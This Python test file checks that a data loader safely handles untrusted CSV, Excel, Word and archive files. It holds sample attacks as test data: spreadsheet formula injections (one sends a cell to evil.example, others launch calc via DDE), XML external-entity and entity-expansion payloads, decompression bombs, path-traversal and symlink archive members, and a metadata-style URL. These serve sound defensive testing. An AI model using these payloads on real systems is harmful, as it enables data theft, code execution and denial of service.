"""Files of strangers: what they hold is read as text, and reading them costs no more than they are worth."""

import csv
import gzip
import io
import resource
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from jiju.keeping import BackupRefused, restore
from loaders.errors import UnreadableFile
from loaders.formulas import kept_text, runs
from loaders.load import load_file
from loaders.readers import read_sheets
from loaders.readers import text as texts
from loaders.readers.archive import unpacked
from loaders.rejects import write_rejects
from loaders.workbook import write_marked
from nlp.errors import DocumentError
from nlp.readers import docx as docx_reader
from ontology.model import Ontology
from support import awful

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    " =1+1",
]
HEAD = b'<?xml version="1.0" encoding="UTF-8"?>'


# formulas


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_in_a_csv_is_kept_text(attack: str) -> None:
    assert kept_text(attack) == f"'{attack}"


@pytest.mark.parametrize("plain", ["-5", "+86 539-8000000", "-", "－", "-1,234.50", "+3.5%", "甲=乙", "a@b.cn", ""])
def test_numbers_and_telephones_stay_as_they_are(plain: str) -> None:
    assert kept_text(plain) == plain


@given(st.text())
def test_nothing_that_runs_comes_out_and_what_does_not_is_not_touched(text: str) -> None:
    kept = kept_text(text)
    assert not runs(kept)
    assert kept == text or (runs(text) and kept == f"'{text}")


@pytest.mark.parametrize("attack", ATTACKS)
def test_rejects_in_csv_hold_no_formula(tmp_path: Path, ontology: Ontology, attack: str) -> None:
    path = tmp_path / "名录.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["企业名称", "从业人数"], ["乙公司", "3"], [attack, "许多"]])
    loaded = load_file(path, ontology=ontology)
    assert write_rejects(path, loaded.report, tmp_path / "rejects.csv") == 1
    with (tmp_path / "rejects.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[1][0].startswith("'")
    assert not any(runs(cell) for row in rows for cell in row)


def test_rejects_of_csv_that_are_mended_say_what_stood_there(tmp_path: Path, ontology: Ontology) -> None:
    path = tmp_path / "名录.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["企业名称", "从业人数"], ["@乙公司", "许多"]])
    write_rejects(path, load_file(path, ontology=ontology).report, tmp_path / "rejects.csv")
    mended = (tmp_path / "rejects.csv").read_text("utf-8-sig").replace("许多", "3", 1)
    (tmp_path / "rejects.csv").write_text(mended, "utf-8-sig")
    (firm,) = load_file(tmp_path / "rejects.csv", ontology=ontology).records
    assert firm.properties["name"] == "@乙公司"


@pytest.mark.parametrize("attack", ATTACKS[:5])
def test_workbooks_that_we_write_hold_no_formula(tmp_path: Path, ontology: Ontology, attack: str) -> None:
    path = tmp_path / "名录.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["企业名称", "从业人数"], [attack, attack]])
    report = load_file(path, ontology=ontology).report
    assert report.errors
    write_marked(path, report, tmp_path / "marked.xlsx")
    write_rejects(path, report, tmp_path / "rejects.xlsx")
    for made in ("marked.xlsx", "rejects.xlsx"):
        cells = [c for s in openpyxl.load_workbook(tmp_path / made) for row in s.iter_rows() for c in row]
        assert attack in [cell.value for cell in cells], made
        assert [cell.value for cell in cells if cell.data_type == "f"] == [], made


# entities, local and remote


def entity(body: bytes, declared: bytes) -> bytes:
    return HEAD + b"<!DOCTYPE d [" + declared + b"]>" + body


def swollen() -> bytes:
    """Ten entities of twenty each of the next: 20^9 letters, were they unfolded."""
    told = b'<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 20) for n in range(9)
    )  # fmt: skip
    return told + b'<!ENTITY x "&j;">'


def patched(data: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(old.read(name)) if name == part else old.read(name))
    return out.getvalue()


def hostile(content: bytes, part: str, word: bytes, declared: bytes) -> bytes:
    """The file with an entity in the place of a word, or of the end of the part where it has no such word."""

    def change(old: bytes) -> bytes:
        body = old.partition(b"?>")[2] if old.startswith(b"<?xml") else old
        return entity(body.replace(word, b"&x;"), declared)

    return patched(content, part, change)


@pytest.fixture(params=["file", "http", "swollen"])
def declared(request: pytest.FixtureRequest, tmp_path: Path) -> bytes:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET", encoding="utf-8")
    if request.param == "swollen":
        return swollen()
    # Nothing answers at port 9: who asks there gets an error, and no test gets an answer.
    url = secret.as_uri() if request.param == "file" else "http://127.0.0.1:9/secret"
    return f'<!ENTITY x SYSTEM "{url}">'.encode()


def test_a_word_document_is_read_without_its_entities(declared: bytes) -> None:
    made, out = docx.Document(), io.BytesIO()
    made.add_paragraph("甲木业")
    made.add_paragraph("乙板材")
    made.save(out)
    before = peak()
    try:
        text = docx_reader.read(hostile(out.getvalue(), "word/document.xml", "甲木业".encode(), declared), "a.docx")
    except DocumentError:
        text = ""
    assert "TOPSECRET" not in text
    assert len(text) < 1_000
    assert peak() - before < 200


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml"])
def test_a_workbook_is_read_without_its_entities(tmp_path: Path, declared: bytes, part: str) -> None:
    path = awful.workbook(tmp_path / "名录.xlsx", [["企业名称"], ["甲木业"]])
    word = "甲木业".encode() if "sheet1" in part else "名录".encode()
    path.write_bytes(hostile(path.read_bytes(), part, word, declared))
    before = peak()
    try:
        told = str([(sheet.name, list(sheet.rows)) for sheet in read_sheets(path)])
    except UnreadableFile:
        told = ""
    assert "TOPSECRET" not in told
    assert len(told) < 1_000
    assert peak() - before < 200


def peak() -> int:
    """The most memory that this process ever had, in MB."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss >> 10


# what swells


def test_a_gzip_that_swells_is_refused_before_it_fills_the_memory(tmp_path: Path) -> None:
    path = tmp_path / "名录.csv.gz"
    with gzip.open(path, "wb", 1) as file:
        file.write("企业名称\n".encode())
        for _ in range(150):
            file.write(b"a" * 1_000_000 + b"\n")
    assert path.stat().st_size < 1_000_000
    with pytest.raises(UnreadableFile, match="unpacks to more than 200 times"):
        for sheet in read_sheets(path):
            for _ in sheet.rows:
                pass


def test_a_line_without_end_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(texts, "_LONGEST_LINE", 1 << 22)
    path = tmp_path / "名录.csv.gz"
    with gzip.open(path, "wb", 1) as file:
        file.write("企业名称\n".encode() + b"a" * (1 << 23))
    with pytest.raises(UnreadableFile, match="a line of more than 4 MB"):
        for sheet in read_sheets(path):
            list(sheet.rows)


def test_a_gzip_of_many_lines_is_read(tmp_path: Path) -> None:
    path = tmp_path / "名录.csv.gz"
    with gzip.open(path, "wt", encoding="utf-8") as file:
        file.write("企业名称\n" + "".join(f"企业{n}\n" for n in range(50_000)))
    (sheet,) = read_sheets(path)
    assert len(list(sheet.rows)) == 50_001


def test_a_workbook_that_swells_is_refused(tmp_path: Path) -> None:
    path = awful.workbook(tmp_path / "名录.xlsx", [["企业名称"], ["甲木业"]])
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as file,
        file.open("xl/worksheets/sheet2.xml", "w") as part,
    ):
        for _ in range(520):
            part.write(bytes(1 << 20))
    with pytest.raises(UnreadableFile, match="which no table does"):
        list(read_sheets(path))


def test_a_cell_of_megabytes_is_refused_in_words(tmp_path: Path) -> None:
    path = tmp_path / "名录.csv"
    path.write_text("企业名称,地址\n甲木业," + "长" * 1_500_000 + "\n", encoding="utf-8")
    with pytest.raises(UnreadableFile, match="row 2: field larger"):
        for sheet in read_sheets(path):
            list(sheet.rows)


# paths that lead out


OUTSIDE = ["../out.csv", "a/../../out.csv", "/tmp/out.csv", "C:/out.csv", "..\\out.csv"]


@pytest.mark.parametrize("name", OUTSIDE)
def test_an_archive_cannot_write_outside_of_its_folder(tmp_path: Path, name: str) -> None:
    path = tmp_path / "in" / "名录.zip"
    path.parent.mkdir()
    with zipfile.ZipFile(path, "w") as file:
        file.writestr(name, "企业名称\n甲木业\n")
    with pytest.raises(UnreadableFile, match="outside of its folder"):
        unpacked(path)


def backup_with(path: Path, *members: tarfile.TarInfo) -> Path:
    listing = b'{"format": 1, "files": {}}'
    with tarfile.open(path, "w") as tar:
        for member in members:
            tar.addfile(member, io.BytesIO(b"x" * member.size))
        told = tarfile.TarInfo("manifest.json")
        told.size = len(listing)
        tar.addfile(told, io.BytesIO(listing))
    return path


def member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", size: int = 0) -> tarfile.TarInfo:
    made = tarfile.TarInfo(name)
    made.type, made.linkname, made.size = kind, link, size
    return made


@pytest.mark.parametrize(
    "hostile_member",
    [
        member("../out"),
        member("/tmp/out"),
        member("archive/../../out"),
        member("archive/link", tarfile.SYMTYPE, "/etc"),
        member("archive/link", tarfile.LNKTYPE, "../../out"),
        member("archive/pipe", tarfile.FIFOTYPE),
        member("keys.json", size=3),
    ],
    ids=["up", "absolute", "through", "symlink", "hard link", "pipe", "not listed"],
)
def test_a_backup_of_somebody_else_is_refused_and_leaves_nothing(
    tmp_path: Path, hostile_member: tarfile.TarInfo
) -> None:
    source = backup_with(tmp_path / "backup.tar", hostile_member)
    with pytest.raises(BackupRefused):
        restore(source, tmp_path / "into" / "data")
    assert sorted(path.name for path in tmp_path.rglob("*")) == ["backup.tar", "into"]


# URLs in files


def test_an_address_in_a_file_is_never_asked(tmp_path: Path, ontology: Ontology) -> None:
    """No room below the server can open a connection by itself: what is read is text."""
    import socket

    path = tmp_path / "名录.csv"
    path.write_text("企业名称,网址\n甲木业,http://127.0.0.1:9/latest/meta-data\n", encoding="utf-8")
    asked: list[object] = []
    real = socket.socket.connect

    def connect(self: socket.socket, address: object) -> None:
        asked.append(address)
        real(self, address)  # type: ignore[arg-type]  # as it came

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(socket.socket, "connect", connect)
        assert load_file(path, ontology=ontology).report.accepted == 1
    assert asked == []
